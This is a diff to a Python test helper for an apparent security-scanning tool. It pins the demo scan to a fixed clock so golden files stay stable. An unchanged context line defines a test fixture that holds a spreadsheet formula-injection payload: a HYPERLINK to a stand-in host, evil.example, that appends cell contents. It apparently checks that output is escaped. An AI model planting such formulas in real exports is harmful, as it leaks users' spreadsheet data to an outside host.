@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 from contextlib import ExitStack
+from datetime import UTC, datetime
 from functools import cache
 from pathlib import Path
 
@@ -22,12 +23,19 @@ FORMULA_NAME = '=HYPERLINK("http://evil.example/?x"&A1)|@team # <b>bold</b>'
 FIXED_TIME = "2025-01-01T00:00:00Z"
 
 
+DEMO_CLOCK = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
+"""The demo is judged at a fixed time: image scan ages and end-of-life dates in the golden
+files would otherwise change from one day (or hour) to the next."""
+
+
 @cache
 def demo_result() -> ScanResult:
-    """The bundled demo estate, scanned once per test session."""
+    """The bundled demo estate, scanned once per test session at :data:`DEMO_CLOCK`."""
     with ExitStack() as stack:
         paths = demo_paths(stack)
         inventory, report = load_inputs(paths, Console(stderr=True, quiet=True))
+        inventory.images.now = DEMO_CLOCK
+        inventory.vulnerabilities.today = DEMO_CLOCK.date()
         return scan_inventory(inventory, errors=report.errors, skipped=report.skipped,
                               inputs=[str(p) for p in paths])
 
